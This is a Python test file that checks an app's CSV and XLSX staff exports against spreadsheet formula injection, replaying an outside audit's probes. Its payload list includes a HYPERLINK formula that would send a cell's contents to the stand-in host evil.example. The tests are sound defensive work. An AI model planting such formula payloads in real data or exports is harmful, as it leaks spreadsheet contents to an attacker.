"""The outside audit's probes, each replayed against the fix: exports, merges, attachments, tokens."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from backend.accounts.models import Role
from tests.api.test_staff_access import manager_of
from tests.factories import IN_BRENLES, csrf, person, sign_in

from backend.exports import csv_cell

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Cliquez")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1"]


async def test_exported_texts_never_become_formulas(client, new_client, town):
    """Audit point 3: a description `=HYPERLINK(...)` was a live formula in the XLSX and the CSV."""
    await csrf(client)
    for text in FORMULAS:
        r = await client.post("/api/v1/requests", json={"service": "proprete", "lat": IN_BRENLES[0], "lon": IN_BRENLES[1],
                                                        "contact_email": "a@example.org", "description": text})
        assert r.status_code == 201, r.text
    agent = await sign_in(new_client(), await person(Role.AGENT, town.brenles))
    table = list(csv.reader(io.StringIO((await agent.get("/api/v1/staff/requests.csv")).content.decode("utf-8-sig"))))
    descriptions = [line[4] for line in table[1:]]
    assert sorted(descriptions) == sorted("'" + t for t in FORMULAS)
    sheet = load_workbook(io.BytesIO((await agent.get("/api/v1/staff/requests.xlsx")).content)).active
    cells = [line[4] for line in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(FORMULAS) and {c.data_type for c in cells} == {"s"}
    assert csv_cell("\r=1+1") == "'\r=1+1"  # a carriage return cannot come through the API (texts are cleaned)
    assert all(isinstance(line[11].value, float) for line in sheet.iter_rows(min_row=2))  # numbers stay numbers

    lighting = await sign_in(new_client(), await manager_of(town, "eclairage"))
    applicant = await sign_in(new_client(), await person(Role.MEMBER, town.brenles, name=FORMULAS[0]))
    r = await applicant.post("/api/v1/access/requests", json={"kind": "rights", "organisation": "brenles", "role": "agent",
                                                              "services": ["eclairage"]})
    assert r.status_code == 201, r.text
    text = (await lighting.get("/api/v1/access/requests.csv", params={"box": "rights"})).content.decode("utf-8-sig")
    [row] = list(csv.reader(io.StringIO(text)))[1:]
    assert row[6] == "'" + FORMULAS[0]
    book = load_workbook(io.BytesIO((await lighting.get("/api/v1/access/requests.xlsx", params={"box": "rights"})).content))
    assert book.active["G2"].value == FORMULAS[0] and book.active["G2"].data_type == "s"
